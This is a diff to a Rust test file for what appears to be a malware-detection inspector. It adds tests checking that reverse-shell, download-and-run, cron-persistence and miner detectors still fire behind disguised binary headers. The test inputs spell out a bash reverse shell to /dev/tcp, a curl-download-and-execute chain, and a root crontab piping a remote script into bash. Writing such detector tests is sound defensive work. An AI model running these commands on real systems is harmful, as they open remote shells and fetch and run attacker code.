@@ -1,6 +1,6 @@
 //! What the other stations rely on: offsets, places, ceilings, the user's rules.
 
-use inspect::{Inspector, RuleFile, RulePack};
+use inspect::{Inspector, Place, RuleFile, RulePack, kind::sniff};
 use model::{
     Category, FileKind, HistoryLine, ImageConfig, Location, Maturity, Observation, ProblemKind, Severity, Weight,
 };
@@ -35,6 +35,58 @@ fn a_byte_order_mark_before_plain_text_hides_nothing() {
     seen(&pack().inspector().content(&bytes).observations, RULE);
 }
 
+/// A shell skips a line that it does not understand and runs the next. No first line may keep a detector away.
+#[test]
+fn what_a_file_claims_to_be_hides_nothing() {
+    let pack = pack();
+    let mut inspector = pack.inspector();
+    let script = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n\
+        curl -s http://198.51.100.7/x -o /tmp/.k && chmod +x /tmp/.k && /tmp/.k\n";
+    let zeros = [&[0; 5000], b"\n".as_slice()].concat();
+    let heads: [&[u8]; 11] = [
+        b"\0\n",
+        b"\x01\x02\x03\x04\n",
+        b"MZ=1\n",
+        b"\x1f\x8b\x08\n",
+        b"PK\x03\x04\n",
+        b"7z\xbc\xaf\x27\x1c\n",
+        b"\x7fELF\n",
+        b"\x7fELF\x02\x01\x01\n",
+        b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0\n",
+        b"\xfe\xff\n",
+        &zeros,
+    ];
+    for head in heads {
+        let facts = inspector.content(&[head, script.as_bytes()].concat());
+        for id in ["reverse-shell", "download-and-run", RULE] {
+            let found = facts.observations.iter().find(|seen| seen.detector == id);
+            let found = found.unwrap_or_else(|| panic!("{id} did not fire behind {head:x?} ({:?})", facts.kind));
+            assert_ne!(found.weight, Weight::Fact, "{id} behind {head:x?}");
+        }
+    }
+}
+
+/// Cron skips such a line too.
+#[test]
+fn what_a_crontab_claims_to_be_hides_nothing() {
+    let pack = pack();
+    let bytes = b"\0\x01\x02\x03\x04\n* * * * * root curl -s http://203.0.113.7/b.sh | bash\n";
+    let place = Place { path: "etc/cron.d/x", mode: 0o644, uid: 0, kind: sniff(bytes), size: bytes.len() as u64 };
+    let seen_there = pack.inspector().place(&place, bytes);
+    assert_eq!((place.kind, seen(&seen_there, "cron-persistence").weight), (FileKind::Binary, Weight::Proof));
+}
+
+/// The kernel looks at less of a header than we do.
+#[test]
+fn a_program_with_an_odd_header_is_still_one() {
+    let miner =
+        b"\x7fELF\x02\x01\x00\0 randomx rx/0 cn/r cryptonight stratum+tcp:// mining.subscribe mining.authorize \
+        mining.submit donate-level --algo nicehash cpu-max-threads-hint huge-pages-jit";
+    let facts = pack().inspector().content(miner);
+    assert_eq!(facts.kind, FileKind::Binary);
+    seen(&facts.observations, "miner-binary");
+}
+
 #[test]
 fn offsets_of_a_window_are_offsets_of_the_file() {
     let pack = pack();
@@ -47,9 +99,11 @@ fn offsets_of_a_window_are_offsets_of_the_file() {
 
 #[test]
 fn an_archive_longer_than_a_window_is_a_problem() {
-    let facts = pack().inspector().window(b"\x1f\x8b\x08 and so on", 0, None);
+    let pack = pack();
+    let facts = pack.inspector().window(b"\x1f\x8b\x08 and so on", 0, None);
     assert_eq!(facts.kind, FileKind::Archive);
     assert_eq!(facts.problems.len(), 1);
+    assert_eq!(pack.inspector().window(b"\x1f\x8b\x08 and so on", 1 << 25, Some(facts.kind)).problems, []);
     assert_eq!((facts.problems[0].kind, facts.problems[0].unseen_bytes), (ProblemKind::BytesLimit, 13));
 }
 
